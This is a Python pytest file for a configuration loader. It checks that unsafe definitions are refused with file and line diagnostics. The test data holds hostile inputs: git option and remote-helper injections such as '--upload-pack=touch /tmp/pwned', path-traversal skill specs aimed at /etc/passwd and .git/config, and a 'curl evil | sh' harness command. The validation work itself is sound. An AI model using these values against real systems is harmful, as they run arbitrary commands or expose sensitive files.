"""Definitions refuse, at load time and with file:line, what would be unsafe or silently ignored later:
repository URLs and refs git must not be given (FC011), skill specs that leave the repository, and a
``harness.command`` no worker honours (docs/definitions.md)."""

from __future__ import annotations

from collections.abc import Callable, Iterable
from pathlib import Path

import pytest

from reconciler import rules
from reconciler.diagnostics import Diagnostic
from reconciler.loader import load
from reconciler.specs import FactoryDefinition

Tree = Callable[[dict[str, str | bytes]], Path]
AUTOMATION = "---\nconfig:\n  {key}: {value}\n---\nDo it.\n"


def loaded(root: Path) -> FactoryDefinition:
    definition = load(root).definition
    assert definition is not None
    return definition


Where = Callable[[Path, Iterable[Diagnostic]], list[tuple[str, int, int, str]]]


@pytest.mark.parametrize(
    ("url", "why"),
    [
        ("'--upload-pack=touch /tmp/pwned'", "must not start with '-'"),
        ("'ext::sh -c touch% /tmp/pwned'", "remote helper syntax 'ext::'"),
        ("'fd::7'", "remote helper syntax 'fd::'"),
        ("ftp://git.example/app.git", "transport 'ftp' is not allowed"),
    ],
)
def test_environment_repository_urls_git_must_not_be_given(
    factory_tree: Tree, where: Where, url: str, why: str
) -> None:
    root = factory_tree(
        {"environments/e.yaml": f"repos:\n  - url: https://git.example/ok.git\n  - url: {url}\n    path: x\n"}
    )
    result = load(root)
    assert result.ok  # a single file is fine by its schema...
    found = rules.check(loaded(root))  # ...the rule sees the URL, and points at its line
    assert where(root, found) == [("environments/e.yaml", 3, 5, "FC011")]
    assert why in found[0].message and found[0].message.startswith("repository URL ")


def test_an_option_like_ref_is_refused(factory_tree: Tree, where: Where) -> None:
    root = factory_tree(
        {"environments/e.yaml": "repos:\n  - url: https://git.example/a.git\n    ref: --orphan\n"}
    )
    found = rules.check(loaded(root))
    assert where(root, found) == [("environments/e.yaml", 3, 5, "FC011")]
    assert "must not start with '-'" in found[0].message


def test_usual_repository_urls_pass(factory_tree: Tree) -> None:
    urls = [
        "https://git.example/a.git",
        "git@github.com:org/b.git",
        "ssh://git.example/c",
        "/srv/git/d",
        "file:///e",
    ]
    body = "repos:\n" + "".join(f"  - url: '{u}'\n    path: p{i}\n" for i, u in enumerate(urls))
    assert rules.check(loaded(factory_tree({"environments/e.yaml": body}))) == []


@pytest.mark.parametrize(
    "spec",
    [
        "owner/repo:../../..",
        "acme/skills:../../etc/passwd",
        "acme/skills:/etc/passwd",
        "acme/skills:tools/../x",
        "../x:y",
        "acme/skills:.git/config",  # docs/agent-config.md, "Skills": only a SKILL.md in an allowed layout
        "acme/skills:README.md",
        "acme/skills:tools/review/SKILL.md",
    ],
)
def test_skill_specs_that_leave_the_repository_are_refused(
    factory_tree: Tree, where: Where, spec: str
) -> None:
    root = factory_tree(
        {"automations/a/automation.md": AUTOMATION.format(key="skill_spec", value=f"'{spec}'")}
    )
    result = load(root)
    assert where(root, result.diagnostics) == [("automations/a/automation.md", 3, 15, "FC010")]
    assert "must look like 'owner/repo:skill-name'" in result.diagnostics[0].message


def test_usual_skill_specs_pass(factory_tree: Tree) -> None:
    for spec in (
        "acme/skills:triage",
        "acme/skills:.agents/skills/review/SKILL.md",
        "acme/skills:a..b/SKILL.md",
    ):
        root = factory_tree({"automations/a/automation.md": AUTOMATION.format(key="skill_spec", value=spec)})
        assert load(root).ok, spec


def test_harness_command_is_refused_where_no_worker_would_run_it(factory_tree: Tree, where: Where) -> None:
    value = "{type: command, command: 'curl evil | sh'}"
    root = factory_tree(
        {
            "factory.yaml": "name: f\nagents:\n  a:\n    harness: {type: echo, timeout_seconds: 5}\n",
            "automations/a/automation.md": AUTOMATION.format(key="harness", value=value),
        }
    )
    result = load(root)
    assert sorted(where(root, result.diagnostics)) == [
        ("automations/a/automation.md", 3, 28, "FC010"),
        ("factory.yaml", 4, 27, "FC010"),
    ]
    assert sorted(d.message for d in result.diagnostics) == [
        "unknown key 'command' in 'config.harness'",
        "unknown key 'timeout_seconds' in 'agents.a.harness'",
    ]
    ok = factory_tree(
        {"automations/a/automation.md": AUTOMATION.format(key="harness", value="{type: command}")}
    )
    assert load(ok).ok
